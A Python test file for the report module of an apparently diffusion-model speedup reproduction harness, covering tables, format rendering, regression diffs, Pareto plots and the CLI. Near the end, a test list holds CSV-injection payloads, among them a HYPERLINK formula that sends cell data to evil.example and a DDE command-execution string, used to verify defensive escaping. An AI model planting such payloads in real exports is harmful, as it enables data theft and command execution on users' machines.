"""repro.reporting.report: tables, formats, regression diffs, Pareto fronts, sample grids,
`repro report`."""

import copy
import io
import json
import math

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from repro.cli.main import main
from repro.reporting import report

SCHEMA = "flexiffusion-repro/results@1"
DIGITS = ("fid:digits-cnn", "rfid:digits-cnn", "acc:digits-cnn")


def _row(
    experiment,
    name,
    kind,
    method,
    schedule,
    predicted,
    measured,
    metrics,
    budget=None,
    fitness=None,
    published=None,
):
    return {
        "experiment": experiment,
        "model": experiment,
        "steps": 20,
        "guidance": None,
        "name": name,
        "kind": kind,
        "method": method,
        "budget": budget,
        "schedule": schedule,
        "predicted_speedup": predicted,
        "measured_speedup": measured,
        "latency": {"median_s": 0.1, "batch": 64, "device": "cpu", "dtype": "float32"},
        "search": None
        if fitness is None
        else {"protocol": "rfid:digits-cnn", "fitness": fitness, "n": 64, "scored": 12},
        "metrics": metrics,
        "published": published,
        "grid": None,
    }


def _digits(fid, rfid, acc):
    return dict(zip(DIGITS, (fid, rfid, acc), strict=True))


def _results(run_id="smoke-1"):
    teacher = "F F F F | F F F F"
    rows = [
        _row(
            "digits-ddpm",
            "teacher",
            "teacher",
            "teacher",
            teacher,
            1.0,
            1.0,
            _digits(38.0, 0.0, 0.99),
        ),
        _row(
            "digits-ddpm",
            "segment @2x",
            "searched",
            "segment-evolution",
            "F P0 N N | F P2 N N",
            2.05,
            1.93,
            _digits(41.2, 11.8, 0.97),
            budget=2.0,
            fitness=12.3,
        ),
        _row(
            "digits-ddpm",
            "DeepCache N=2",
            "baseline",
            "deepcache",
            "F P0 | F P0 | F P0 | F P0",
            1.8,
            1.7,
            _digits(45.0, 15.0, 0.95),
        ),
        _row(
            "digits-ddpm",
            "DDIM 8",
            "baseline",
            "fewer-steps",
            "F N F N | F N F N",
            2.0,
            None,
            _digits(60.0, 30.0, 0.90),
            budget=2.0,
        ),
        _row(
            "sd15",
            "teacher",
            "teacher",
            "teacher",
            "F F F F",
            1.0,
            1.0,
            {"clip:ViT-g-14/laion2b_s34b_b88k": 31.5},
        ),
        _row(
            "sd15",
            "DeepCache N=5",
            "baseline",
            "deepcache",
            "F P0 P0 P0",
            2.3,
            2.1,
            {"clip:ViT-g-14/laion2b_s34b_b88k": 31.0},
            published={"speedup": 2.15, "clip": 30.9, "fid": 11.5, "source": "DeepCache T2"},
        ),
    ]
    return {
        "schema": SCHEMA,
        "run_id": run_id,
        "suite": {"name": "smoke", "version": 1},
        "rows": rows,
    }


def _write_run(directory, results):
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "results.json").write_text(json.dumps(results))
    return directory


def test_table_columns_and_values():
    df = report.table(_results())
    clip = "clip:ViT-g-14/laion2b_s34b_b88k"
    assert list(df.columns) == [
        "experiment",
        "name",
        "kind",
        "budget",
        "predicted speedup",
        "measured speedup",
        "published speedup",
        "fid:digits-cnn",
        "published fid",
        "rfid:digits-cnn",
        "acc:digits-cnn",
        clip,
        "published clip",
        "search fitness",
        "source",
        "schedule",
    ]
    assert len(df) == 6
    searched = df.iloc[1]
    assert searched["name"] == "segment @2x" and searched["kind"] == "searched"
    assert searched["budget"] == 2.0 and searched["search fitness"] == 12.3
    assert searched["fid:digits-cnn"] == 41.2 and searched["schedule"] == "F P0 N N | F P2 N N"
    assert math.isnan(searched[clip]) and math.isnan(searched["published speedup"])
    assert math.isnan(df.iloc[3]["measured speedup"]) and math.isnan(df.iloc[0]["budget"])
    deepcache = df.iloc[5]
    assert deepcache["published speedup"] == 2.15 and deepcache["published clip"] == 30.9
    assert deepcache["published fid"] == 11.5 and deepcache["source"] == "DeepCache T2"
    assert df["search fitness"].isna().sum() == 5


def test_table_shows_work_throughput_and_memory_where_rows_have_them():
    results = _results()
    results["rows"][0] = {
        **results["rows"][0],
        "computed": {"calls": 10, "work": 10.0},
        "latency": {"median_s": 0.5, "images_per_s": 8.0, "host_memory_mb": 12.5},
    }
    df = report.table(results)
    assert list(df.columns)[4:9] == [
        "predicted speedup",
        "measured speedup",
        "work",
        "images/s",
        "host MB",
    ]
    assert df.iloc[0][["work", "images/s", "host MB"]].tolist() == [10.0, 8.0, 12.5]
    assert df["work"].isna().sum() == 5


def test_table_without_published_and_of_several_runs():
    plain = _results()
    plain["rows"] = plain["rows"][:4]
    df = report.table(plain)
    assert "source" not in df.columns and not any(c.startswith("published") for c in df.columns)
    assert list(df.columns)[-2:] == ["search fitness", "schedule"]
    both = report.table([plain, _results("smoke-2")])
    assert both.columns[0] == "run" and len(both) == 10
    assert list(both["run"]) == ["smoke-1"] * 4 + ["smoke-2"] * 6
    assert "published speedup" in both.columns


def test_render_formats_parse_back():
    df = report.table(_results())
    csv = pd.read_csv(io.StringIO(report.render(df, "csv")))
    assert list(csv.columns) == list(df.columns)
    pd.testing.assert_series_equal(csv["fid:digits-cnn"], df["fid:digits-cnn"])
    assert csv["schedule"].tolist() == df["schedule"].tolist()

    md = report.render(df, "md").splitlines()
    assert len(md) == 2 + len(df)  # header, rule, one line per row
    cells = [line.replace(r"\|", "").count("|") for line in md]
    assert set(cells) == {len(df.columns) + 1}  # escaped schedule bars keep cells intact
    assert "| segment @2x" in md[3] and "1.93" in md[3] and "0.970" in md[3]
    assert r"F P0 N N \| F P2 N N" in md[3]

    tex = report.render(df, "tex")
    assert r"\begin{tabular}" in tex and r"\toprule" in tex and r"\bottomrule" in tex
    for name in df["name"]:
        assert name in tex
    assert tex.count(r"\\") == len(df) + 1


def test_display_cells_give_unit_interval_fidelity_three_decimals():
    df = pd.DataFrame(
        {
            "fid:digits-cnn": [12.3456],
            "acc:digits-cnn": [0.91234],
            "ssim": [0.98765],
            "lpips:alex": [0.01234],
            "schedule": ["F F"],
            "psnr": [float("nan")],
        }
    )
    cells = report.display_cells(df).iloc[0].to_dict()
    assert cells == {
        "fid:digits-cnn": "12.35",
        "acc:digits-cnn": "0.912",
        "ssim": "0.988",
        "lpips:alex": "0.012",
        "schedule": "F F",
        "psnr": "",
    }


def test_render_unknown_format():
    with pytest.raises(report.ReportError, match="html"):
        report.render(report.table(_results()), "html")


def _regressed():
    new = copy.deepcopy(_results("smoke-2"))
    rows = new["rows"]
    rows[1]["metrics"]["fid:digits-cnn"] = 42.4  # fid up: worse
    rows[1]["measured_speedup"] = 2.03  # speedup up: better
    rows[1]["metrics"]["acc:digits-cnn"] = 0.95  # acc down: worse
    rows[2]["schedule"] = "F P1 | F P1 | F P1 | F P1"  # same name, new schedule
    rows[2]["metrics"]["fid:digits-cnn"] = 44.0  # fid down: better
    del rows[3]  # DDIM 8 only in old
    rows.append(
        _row(
            "digits-ddpm",
            "random @2x",
            "searched",
            "segment-random",
            "F N P0 N | F N P0 N",
            2.0,
            1.9,
            _digits(50.0, 20.0, 0.93),
            budget=2.0,
        )
    )
    return new


def test_compare_arrows_and_verdicts():
    df = report.regression_diff(_results(), _regressed())
    assert list(df.columns[:3]) == ["experiment", "name", "note"]
    assert df.columns[-1] == "schedule"
    by_name = df[df["experiment"] == "digits-ddpm"].set_index("name")
    seg = by_name.loc["segment @2x"]
    assert seg["note"] == ""
    assert seg["fid:digits-cnn old"] == 41.2 and seg["fid:digits-cnn new"] == 42.4
    assert seg["fid:digits-cnn Δ"] == "+1.2 ↑ worse"
    assert seg["measured speedup Δ"] == "+0.1 ↑ better"
    assert seg["acc:digits-cnn Δ"] == "-0.02 ↓ worse"
    assert seg["predicted speedup Δ"] == "=" and seg["rfid:digits-cnn Δ"] == "="
    dc = by_name.loc["DeepCache N=2"]
    assert dc["note"] == "schedule changed" and dc["fid:digits-cnn Δ"] == "-1 ↓ better"
    assert dc["schedule"] == "F P1 | F P1 | F P1 | F P1"
    assert by_name.loc["random @2x", "note"] == "only in new"
    assert by_name.loc["random @2x", "fid:digits-cnn Δ"] == ""
    old_only = by_name.loc["DDIM 8"]
    assert old_only["note"] == "only in old" and old_only["fid:digits-cnn old"] == 60.0
    assert math.isnan(old_only["fid:digits-cnn new"])
    assert df.iloc[-1]["name"] == "DDIM 8"  # old-only rows come last
    assert by_name.loc["teacher", "note"] == ""
    assert "clip:ViT-g-14/laion2b_s34b_b88k Δ" in df.columns
    assert report.render(df, "md").count("\n") == len(df) + 2


def test_compare_matches_renamed_rows_by_schedule():
    new = copy.deepcopy(_results())
    new["rows"][1]["name"] = "segment-evolution @2x"
    df = report.regression_diff(_results(), new)
    assert len(df) == 6
    row = df[df["name"] == "segment-evolution @2x"].iloc[0]
    assert row["note"] == "renamed" and row["fid:digits-cnn Δ"] == "="


def test_pareto_front_selection():
    from repro.core.pareto import front_indices

    xs = [1.0, 2.0, 2.0, 3.0, 1.5, 4.0, 3.0]
    ys = [10.0, 12.0, 15.0, 12.0, 11.0, 30.0, 12.0]
    # (2,15) dominated by (2,12); (2,12) by (3,12); (3,12) duplicate keeps the first
    assert front_indices(xs, ys) == [0, 4, 3, 5]
    assert front_indices(xs, ys, lower_is_better=False) == [5]
    assert front_indices([1.0, 2.0], [0.9, 0.95], lower_is_better=False) == [1]
    assert front_indices([], []) == []


def test_pareto_plot_writes_png(tmp_path):
    path = report.pareto_plot(_results(), tmp_path / "plots" / "pareto.png")
    assert path == tmp_path / "plots" / "pareto.png"
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    with Image.open(path) as image:
        width, height = image.size
    # two experiments side by side, predicted speed above measured: 2 x 5.5 by 2 x 4.2 inches
    assert width / height == pytest.approx(11 / 8.4, rel=0.05)
    assert [p.name for p in path.parent.iterdir()] == ["pareto.png"]  # no temp file left


def test_sample_grid_layout(tmp_path):
    images = np.stack([np.full((16, 16, 1), v, np.uint8) for v in (0, 100, 200)])
    path = report.sample_grid(images, tmp_path / "grid.png", ncols=2)
    grid = np.asarray(Image.open(path))
    tile, pad = 64, 2  # 16 px upscaled by 4
    assert grid.shape == (2 * (tile + pad) + pad, 2 * (tile + pad) + pad)
    assert grid[pad, pad] == 0 and grid[pad + tile - 1, pad + tile - 1] == 0
    assert grid[pad, 2 * pad + tile] == 100 and grid[pad + tile - 1, -pad - 1] == 100
    assert grid[2 * pad + tile, pad] == 200 and grid[-pad - 1, pad + tile - 1] == 200
    assert grid[-pad - 1, -pad - 1] == 255 and grid[0, 0] == 255  # empty cell, border
    colour = np.zeros((1, 80, 80, 3), np.uint8)
    colour[0, :, :, 0] = 255
    rgb = np.asarray(Image.open(report.sample_grid(colour, tmp_path / "rgb.png")))
    assert rgb.shape == (84, 84, 3) and rgb[2:82, 2:82].tolist() == colour[0].tolist()
    with pytest.raises(report.ReportError, match="uint8 NHWC"):
        report.sample_grid(images.astype(np.float32), tmp_path / "bad.png")


def _markdown_rows(text: str) -> list[dict]:
    """A markdown table read back by hand: one dict per body line, keyed by the header."""
    lines = [line for line in text.splitlines() if line.startswith("|")]
    split = [
        [cell.strip() for cell in line.replace(r"\|", "\0").strip("|").split("|")] for line in lines
    ]
    header, body = split[0], split[2:]  # the second line is the rule
    return [
        {key: cell.replace("\0", "|") for key, cell in zip(header, row, strict=True)}
        for row in body
    ]


def _assert_is_the_results_table(markdown: str):
    """The rows of ``_results()`` in order, with the values written there."""
    rows = _markdown_rows(markdown)
    assert [(r["experiment"], r["name"]) for r in rows] == [
        ("digits-ddpm", "teacher"),
        ("digits-ddpm", "segment @2x"),
        ("digits-ddpm", "DeepCache N=2"),
        ("digits-ddpm", "DDIM 8"),
        ("sd15", "teacher"),
        ("sd15", "DeepCache N=5"),
    ]
    assert [float(r["fid:digits-cnn"]) for r in rows[:4]] == [38.0, 41.2, 45.0, 60.0]
    assert [r["schedule"] for r in rows[1:3]] == [
        "F P0 N N | F P2 N N",
        "F P0 | F P0 | F P0 | F P0",
    ]
    assert float(rows[5]["published speedup"]) == 2.15 and rows[5]["source"] == "DeepCache T2"


def test_write_tables(tmp_path):
    paths = report.write_tables(_results(), tmp_path / "run")
    assert [p.name for p in paths] == ["table.md", "table.csv", "table.tex"]
    assert sorted(p.name for p in (tmp_path / "run").iterdir()) == sorted(p.name for p in paths)
    _assert_is_the_results_table(paths[0].read_text())
    csv = pd.read_csv(paths[1])
    assert list(csv["name"]) == [row["name"] for row in _results()["rows"]]
    assert list(csv["measured speedup"].fillna(-1)) == [1.0, 1.93, 1.7, -1, 1.0, 2.1]
    assert list(csv["acc:digits-cnn"][:4]) == [0.99, 0.97, 0.95, 0.90]
    tex = paths[2].read_text()
    assert tex.count(r"\\") == 6 + 1 and "DeepCache T2" in tex


def test_load_results(tmp_path):
    run = _write_run(tmp_path / "run", _results())
    assert report.load_results(run).run_id == "smoke-1"
    assert report.load_results(run / "results.json").run_id == "smoke-1"
    with pytest.raises(report.ReportError, match=r"missing[/\\]results\.json: no such"):
        report.load_results(tmp_path / "missing")
    bad = _write_run(tmp_path / "bad", {**_results(), "schema": "other@1"}) / "results.json"
    with pytest.raises(report.ReportError, match=r"bad[/\\]results\.json: schema 'other@1'"):
        report.load_results(bad)
    newer = _write_run(tmp_path / "newer", {**_results(), "schema": "flexiffusion-repro/results@2"})
    with pytest.raises(
        report.ReportError,
        match=r"schema flexiffusion-repro/results@2 is not "
        r"one this harness reads \(.*@1 and earlier\)",
    ):
        report.load_results(newer)  # a newer format is refused, never misread
    bad.write_text("{not json")
    with pytest.raises(report.ReportError, match=r"results\.json: not valid JSON"):
        report.load_results(bad)


def test_results_are_read_through_the_typed_schema(tmp_path):
    """A field of the wrong type or one this harness does not know is refused in one line
    naming it; a file read and written again keeps every field."""
    results = _results()
    results["rows"][1]["search"]["trace"] = [12.3, float("inf")]  # an undefined score
    loaded = report.load_results(_write_run(tmp_path / "run", results))
    assert loaded.rows[1].metrics == results["rows"][1]["metrics"]
    assert loaded.of_experiment("sd15")[0].name == "teacher"
    written = loaded.to_json()
    assert (
        written["schema"] == SCHEMA
        and [
            {k: r[k] for k in row} for r, row in zip(written["rows"], results["rows"], strict=True)
        ]
        == results["rows"]
    )
    assert "Infinity" in json.dumps(written)  # not null, as pydantic's JSON mode would write
    typo = {**results, "rows": [{**results["rows"][0], "predicted_speedup": "fast"}]}
    with pytest.raises(
        report.ReportError,
        match=r"typo[/\\]results\.json: field "
        r"rows\[0\]\.predicted_speedup: input should "
        r"be a valid number",
    ):
        report.load_results(_write_run(tmp_path / "typo", typo))
    extra = {**results, "rows": [{**results["rows"][0], "lpips": 0.1}]}
    with pytest.raises(report.ReportError, match=r"field rows\[0\]\.lpips: unknown field"):
        report.load_results(_write_run(tmp_path / "extra", extra))


def test_cli_report(tmp_path, capsys):
    run = _write_run(tmp_path / "run", _results())
    assert main(["report", str(run)]) == 0
    out = capsys.readouterr().out
    _assert_is_the_results_table(out)

    out_file = tmp_path / "table.csv"
    assert main(["report", str(run), str(run), "--format", "csv", "--out", str(out_file)]) == 0
    assert list(pd.read_csv(out_file)["run"]) == ["smoke-1"] * 12

    new = _write_run(tmp_path / "new", _regressed())
    assert main(["report", "--compare", str(run), str(new)]) == 0
    assert "+1.2 ↑ worse" in capsys.readouterr().out

    assert main(["report", str(tmp_path / "nope")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "nope" in err and "results.json" in err


def test_a_long_f_n_schedule_shows_as_its_full_steps():
    """The step-wise search on the training grid gives 1000-step schedules; md tables list
    their F positions, csv keeps the text."""
    from repro.core.schedule import Schedule
    from repro.reporting.report import render

    schedule = str(Schedule.from_full_steps(1000, {0, 250, 600}, "N"))
    df = pd.DataFrame({"name": ["stepwise @2x"], "schedule": [schedule]})
    assert "1000 steps: F at 0 250 600, N elsewhere" in render(df, "md")
    assert schedule in render(df, "csv")
    short = "F P0 \\| F N"
    assert short in render(pd.DataFrame({"schedule": ["F P0 | F N"]}), "md")


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1",
    "\rCR=1",
    "two\nlines | and a bar",
    "ok\r\nCRLF",
    "line\u2028separator",
]


def _hostile_results():
    results = _results()
    results["rows"] = [dict(results["rows"][k % 4], name=name) for k, name in enumerate(HOSTILE)]
    results["rows"][0]["experiment"] = "=1+1"
    return results


def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    """OWASP's CSV injection advice: a text cell starting = + - @ tab or CR gets a leading
    apostrophe; numbers (negative ones too) stay numbers."""
    (_, csv_path, _) = report.write_tables(_hostile_results(), tmp_path)
    csv = pd.read_csv(csv_path, keep_default_na=False)
    names = csv["name"].tolist()
    for raw, cell in zip(HOSTILE, names, strict=True):
        assert cell == ("'" + raw if raw[0] in "=+-@\t\r" else raw)
    assert csv["experiment"][0] == "'=1+1"
    assert not any(
        str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
        for column in csv.columns
        if csv[column].dtype == object
        for cell in csv[column]
    )
    results = _hostile_results()
    results["rows"][1]["measured_speedup"] = -1.5
    assert (
        pd.read_csv(io.StringIO(report.render(report.table(results), "csv")))["measured speedup"][1]
        == -1.5
    )


def test_markdown_and_tex_keep_one_line_per_row_for_hostile_names(tmp_path):
    df = report.table(_hostile_results())
    md = report.render(df, "md")
    assert len(md.splitlines()) == 2 + len(df)  # a name's line break adds no row
    rows = _markdown_rows(md)
    assert [r["name"] for r in rows][6:8] == ["two<br>lines | and a bar", "ok<br>CRLF"]
    tex = report.render(df, "tex")
    assert tex.count(r"\\") == len(df) + 1 and "\n\n" not in tex


def test_every_metric_has_one_direction_that_tables_and_the_gate_share():
    """metrics.protocols.lower_is_better is the one definition: IS, precision and recall
    (once without a direction in tables) get better/worse like FID and latency do."""
    from repro.metrics.protocols import METRICS, lower_is_better
    from repro.reporting.report import _delta

    assert all(lower_is_better(m) is not None for m in METRICS)
    assert _delta("precision:digits-cnn", 0.5, 0.6) == "+0.1 ↑ better"
    assert _delta("is:inception-2015-12-05", 9.0, 8.0) == "-1 ↓ worse"
    assert _delta("latency", 1.0, 2.0) == "+1 ↑ worse"
    assert _delta("predicted_speedup", 2.0, 3.0) == "+1 ↑ better"
    assert _delta("name", 1.0, 2.0) == "+1 ↑"
